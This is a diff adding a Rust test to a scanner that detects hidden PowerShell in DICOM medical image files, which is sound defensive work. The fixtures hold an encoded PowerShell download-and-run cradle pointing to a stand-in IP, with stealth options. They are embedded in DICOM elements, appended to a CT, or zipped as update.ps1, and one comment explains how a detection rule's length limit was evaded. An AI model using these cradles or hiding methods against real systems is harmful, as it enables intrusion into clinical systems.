@@ -386,3 +386,198 @@ fn a_pe_split_over_adjacent_elements_is_confirmed() {
         "{json:#}"
     );
 }
+
+/// Every finding (severity, kind, format, detail) on `path`.
+fn findings_on(json: &Value, path: &Path) -> Vec<(String, String, String, String)> {
+    let path = path.to_str().expect("utf-8 path");
+    json["findings"]
+        .as_array()
+        .expect("findings")
+        .iter()
+        .filter(|f| f["path"] == path)
+        .map(|f| {
+            let field = |name: &str| f[name].as_str().unwrap_or_default().to_owned();
+            (
+                field("severity"),
+                field("kind"),
+                field("format"),
+                field("detail"),
+            )
+        })
+        .collect()
+}
+
+/// PowerShell (issue 10, class 2; session 7's "Open": no test). What runs it:
+/// - cmd.exe runs a line that starts with `powershell` when the file is started as a
+///   batch file: an alert, and its `-EncodedCommand` (base64 of UTF-16LE, made here by
+///   Python) is decoded in the finding, which says it downloads and runs more;
+/// - the same command line after other text on its line, with the long options malware
+///   puts first: cmd.exe would not run that line, but the built-in rule
+///   `pacsguard_dicom_script_payload` takes any encoded PowerShell command for a payload.
+///   It allowed 64 bytes between `powershell` and `-e…`, and
+///   `-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass` is 70: missed;
+/// - appended to a CT, as in an element;
+/// - a `.ps1` in a ZIP in an element: PowerShell runs it once extracted (an alert by its
+///   name), while the same script as a `.txt` entry is run by nothing;
+/// - a script body (`param(`, `Invoke-Expression`, a download cradle) in an element with
+///   no launcher: PowerShell runs only a file given to it (`-File` wants `.ps1` on
+///   Windows) and parses the whole file before running any of it, so the binary data set
+///   around the script is a parse error: nothing runs, no alert;
+/// - real documentation that mentions PowerShell (Debian's nodejs BUILDING.md, whose
+///   PowerShell sections hold a download cradle for Boxstarter, restic's installation
+///   notes, npm's own `npm.ps1`) in a text element: no alert.
+#[test]
+fn powershell_is_judged_as_cmd_and_powershell_would_run_it() {
+    let env = Env::new();
+    let dir = env.path("store");
+    fs::create_dir_all(&dir).expect("mkdir");
+    let cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')";
+    let encoded = Command::new("python3")
+        .args([
+            "-c",
+            "import base64, sys; print(base64.b64encode(sys.argv[1].encode('utf-16-le')).decode())",
+            cradle,
+        ])
+        .output()
+        .expect("python3");
+    let encoded = String::from_utf8(encoded.stdout).expect("ascii");
+    let encoded = encoded.trim();
+    let options = "-NoProfile -NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass";
+    let launcher = format!("\r\npowershell.exe {options} -EncodedCommand {encoded}\r\n");
+    let midline = format!("Reviewed by IT; ran powershell.exe {options} -ec {encoded} twice");
+    let script = format!(
+        "param([string]$Target = 'pacs')\r\nInvoke-Expression \"Write-Host $Target\"\r\n{cradle}\r\n"
+    );
+    let ct = |uid: &str| DicomBuilder::ct(uid);
+    let in_element = |uid: &str, text: &[u8]| ct(uid).element(0x0020, 0x4000, *b"LT", text).build();
+    let zip = |name: &str| {
+        let out = Command::new("python3")
+            .args([
+                "-c",
+                "import io, sys, zipfile\n\
+                 buf = io.BytesIO()\n\
+                 with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:\n\
+                 \x20   z.writestr(sys.argv[1], sys.argv[2])\n\
+                 sys.stdout.buffer.write(buf.getvalue())",
+                name,
+                &script,
+            ])
+            .output()
+            .expect("python3");
+        out.stdout
+    };
+    let mut appended = ct("1.2.826.0.1.3680043.10.1137.9.3").build();
+    appended.extend_from_slice(launcher.as_bytes());
+    let files: Vec<(&str, Vec<u8>)> = vec![
+        (
+            "launcher.dcm",
+            in_element("1.2.826.0.1.3680043.10.1137.9.1", launcher.as_bytes()),
+        ),
+        (
+            "midline.dcm",
+            in_element("1.2.826.0.1.3680043.10.1137.9.2", midline.as_bytes()),
+        ),
+        ("appended.dcm", appended),
+        (
+            "zip-ps1.dcm",
+            ct("1.2.826.0.1.3680043.10.1137.9.4")
+                .element(0x0009, 0x0010, *b"LO", b"VENDOR")
+                .element(0x0009, 0x1010, *b"OB", &zip("update.ps1"))
+                .build(),
+        ),
+        (
+            "zip-txt.dcm",
+            ct("1.2.826.0.1.3680043.10.1137.9.5")
+                .element(0x0009, 0x0010, *b"LO", b"VENDOR")
+                .element(0x0009, 0x1010, *b"OB", &zip("notes.txt"))
+                .build(),
+        ),
+        (
+            "script.dcm",
+            in_element("1.2.826.0.1.3680043.10.1137.9.6", script.as_bytes()),
+        ),
+    ];
+    // Real documentation: the PowerShell sections of nodejs's BUILDING.md, restic's notes,
+    // npm's npm.ps1 (Debian's nodejs and restic packages).
+    let mut docs = Vec::new();
+    if let Ok(building) = fs::read_to_string("/usr/share/doc/nodejs/BUILDING.md") {
+        let mut sections = String::new();
+        let mut inside = false;
+        for line in building.lines() {
+            if line.trim_start().starts_with("```") {
+                inside = line.contains("powershell");
+            } else if inside || line.contains("PowerShell") {
+                sections.push_str(line);
+                sections.push_str("\r\n");
+            }
+        }
+        assert!(sections.contains("DownloadString"), "{sections}");
+        docs.push(sections.into_bytes());
+    }
+    for real in [
+        "/usr/share/doc/restic/html/_sources/020_installation.rst.txt",
+        "/usr/lib/node_modules/npm/bin/npm.ps1",
+    ] {
+        if let Ok(bytes) = fs::read(real) {
+            docs.push(bytes);
+        }
+    }
+    let mut paths = Vec::new();
+    for (name, bytes) in &files {
+        let path = dir.join(name);
+        fs::write(&path, bytes).expect("write");
+        paths.push(path);
+    }
+    let mut doc_paths = Vec::new();
+    for (n, text) in docs.iter().enumerate() {
+        let path = dir.join(format!("doc{n}.dcm"));
+        let uid = format!("1.2.826.0.1.3680043.10.1137.9.1{n}");
+        fs::write(
+            &path,
+            ct(&uid).element(0x0020, 0x4000, *b"LT", text).build(),
+        )
+        .expect("write");
+        doc_paths.push(path);
+    }
+    let (code, json) = scan_json(&env, &[dir.to_str().expect("utf-8")]);
+    assert_eq!(code, 1, "{json:#}");
+    let on = |name: &str| findings_on(&json, &dir.join(name));
+    let alert = |name: &str, kind: &str, format: &str| {
+        on(name)
+            .into_iter()
+            .find(|(severity, k, f, _)| severity == "alert" && k == kind && f == format)
+    };
+    for name in ["launcher.dcm", "appended.dcm"] {
+        let (_, _, _, detail) = alert(name, "active-content", "powershell")
+            .unwrap_or_else(|| panic!("{name}: {json:#}"));
+        assert!(
+            detail.contains("DownloadString") && detail.contains("downloads and runs"),
+            "{name}: {detail}"
+        );
+    }
+    assert!(
+        on("midline.dcm")
+            .iter()
+            .any(|(severity, _, _, detail)| severity == "alert" && detail.contains("PowerShell")),
+        "{json:#}"
+    );
+    assert!(
+        on("zip-ps1.dcm")
+            .iter()
+            .any(|(severity, _, _, detail)| severity == "alert" && detail.contains("update.ps1")),
+        "{json:#}"
+    );
+    for name in ["zip-txt.dcm", "script.dcm"] {
+        assert!(
+            !on(name).iter().any(|(severity, ..)| severity == "alert"),
+            "{name}: {json:#}"
+        );
+    }
+    for path in &doc_paths {
+        assert!(
+            alerts_on(&json, path).is_empty(),
+            "{}: {json:#}",
+            path.display()
+        );
+    }
+}
